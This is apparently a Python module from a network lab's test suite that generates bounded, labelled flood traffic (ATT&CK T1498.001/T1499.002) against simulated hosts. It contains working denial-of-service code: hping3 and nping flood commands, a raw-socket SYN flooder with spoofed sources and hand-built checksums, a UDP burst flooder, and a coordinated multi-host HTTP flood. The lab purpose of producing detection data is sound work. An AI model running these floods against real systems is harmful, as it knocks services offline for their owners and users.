"""Floods, bounded in packets and in time (ATT&CK T1498.001, T1499.001)."""

from __future__ import annotations

import random
import socket
import struct
from contextlib import suppress

from tests.lab import wire
from tests.lab.network import Host
from tests.lab.stage import Stage

SPOOFED = "100.96.0.0/12"
"""Where the lab's own flooder takes false sources from: part of the shared address space (RFC
6598)."""


def _victim(stage: Stage, me: Host, rng: random.Random) -> tuple[Host, int]:
    services = [("server", 80), ("exposed", 80), ("broker", 1883), ("nas", 22), ("recorder", 554)]
    return rng.choice(
        [(stage.one(role), port) for role, port in services if stage.one(role) is not me]
    )


def hping(
    stage: Stage,
    me: Host,
    rng: random.Random,
    *,
    kind: str = "syn",
    count: int = 2500,
    rate: int = 300,
    source: str = "own",
) -> None:
    """hping3: SYN, UDP, ACK or ICMP; from the own address, from random ones, to one port or to the
    next every time."""
    victim, port = _victim(stage, me, rng)
    port = rng.choice((53, 123, 9999, port)) if kind == "udp" else port
    flags = {"syn": ["-S"], "udp": ["--udp", "-d", "300"], "ack": ["-A"], "icmp": ["--icmp"]}[kind]
    command = [
        "hping3",
        "-q",
        "-n",
        *flags,
        "-c",
        str(count),
        "-i",
        f"u{1_000_000 // rate}",
        victim.address,
    ]
    command += [] if kind == "icmp" else ["-p", str(port)]
    command += {"own": [], "random": ["--rand-source"]}[source]
    proto = {"syn": "tcp", "ack": "tcp"}.get(kind, kind)
    orig = None if source == "random" else [me]
    ports = None if kind == "icmp" else [port]
    name = f"hping3 {kind} {source}"
    with (
        stage.activity("flood", "T1498.001", name, orig, [victim], proto, ports),
        stage.activity("flood", "T1498.001", f"{name} refused", orig, [victim], "icmp", None),
    ):
        stage.note(f"{name}: {stage.tool(command, count / rate + 20)[-300:]}")


def raw(
    stage: Stage,
    me: Host,
    rng: random.Random,
    *,
    count: int = 2500,
    rate: int = 250,
    sources: int = 400,
) -> None:
    """A SYN flooder of its own with a pool of false sources; sends in bursts."""
    victim, port = _victim(stage, me, rng)
    pool = [
        f"100.{rng.randrange(96, 112)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        for _ in range(sources)
    ]
    with (
        stage.activity(
            "flood", "T1498.001", "SYN flood, pool of sources", [SPOOFED], [victim], "tcp", [port]
        ),
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as link,
    ):
        for number in range(count):
            link.sendto(_syn(rng.choice(pool), victim.address, port, rng), (victim.address, 0))
            if number % 20 == 19:
                stage.sleep(20 / rate)


def _syn(source: str, target: str, port: int, rng: random.Random) -> bytes:
    """An IPv4 SYN with right checksums (the kernel fills IP's)."""
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    tcp = struct.pack(
        "!HHIIBBHHH", rng.randrange(1024, 65536), port, rng.randrange(2**32), 0, 0x50, 2, 5840, 0, 0
    )
    words = sum(struct.unpack("!16H", ends + struct.pack("!BBH", 0, 6, 20) + tcp))
    words = (words & 0xFFFF) + (words >> 16)
    check = ~((words & 0xFFFF) + (words >> 16)) & 0xFFFF
    head = struct.pack("!BBHHHBBH", 0x45, 0, 40, rng.randrange(65536), 0, 64, 6, 0) + ends
    return head + tcp[:16] + struct.pack("!H", check) + tcp[18:]


def udp_burst(
    stage: Stage,
    me: Host,
    rng: random.Random,
    *,
    count: int = 3000,
    rate: int = 300,
    size: int = 400,
) -> None:
    """A UDP flood as bots send it: one socket, fixed size, to one or to random ports."""
    victim, _ = _victim(stage, me, rng)
    spread = rng.random() < 0.5
    port = rng.randrange(1024, 60000)
    with (
        stage.activity(
            "flood", "T1498.001", "UDP flood", [me], [victim], "udp", None if spread else [port]
        ),
        stage.activity("flood", "T1498.001", "UDP flood refused", [me], [victim], "icmp", None),
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link,
    ):
        for number in range(count):
            with suppress(OSError):
                link.sendto(
                    wire.filler(size), (victim.address, rng.randrange(1, 65536) if spread else port)
                )
            if number % 10 == 9:
                stage.sleep(10 / rate)


def requests(
    stage: Stage,
    me: Host,
    rng: random.Random,
    *,
    count: int = 1200,
    rate: int = 80,
    attackers: int = 3,
) -> None:
    """An HTTP flood by several hosts at once: connections that ask for the largest page."""
    victim = stage.one(rng.choice(("server", "exposed")))
    others = [host for host in stage.role("sensor", "camera", "gadget") if host is not me]
    crew = [me, *rng.sample(others, min(attackers - 1, len(others)))]
    with stage.activity("flood", "T1499.002", "HTTP flood", list(crew), [victim], "tcp", [80]):
        share = count // len(crew)
        for host in crew[1:]:
            stage.start(
                host, lambda: _requests(stage, victim, share, rate / len(crew)), "HTTP flood"
            )
        _requests(stage, victim, share, rate / len(crew))
        stage.sleep(1)


def _requests(stage: Stage, victim: Host, count: int, rate: float) -> None:
    for _ in range(count):
        with suppress(OSError):
            wire.http(victim.address, 80, ["/page11.html"])
        stage.sleep(1 / rate)


def nping(
    stage: Stage,
    me: Host,
    rng: random.Random,
    *,
    kind: str = "tcp",
    count: int = 2000,
    rate: int = 250,
) -> None:
    """nping (of nmap): SYNs or datagrams at a steady rate."""
    victim, port = _victim(stage, me, rng)
    shape = ["--tcp", "--flags", "syn"] if kind == "tcp" else ["--udp", "--data-length", "200"]
    command = [
        "nping",
        "-q",
        *shape,
        "-p",
        str(port),
        "-c",
        str(count),
        "--rate",
        str(rate),
        "--no-capture",
    ]
    with (
        stage.activity("flood", "T1498.001", f"nping {kind}", [me], [victim], kind, [port]),
        stage.activity("flood", "T1498.001", f"nping {kind} refused", [me], [victim], "icmp", None),
    ):
        stage.note(f"nping: {stage.tool([*command, victim.address], count / rate + 20)[-300:]}")
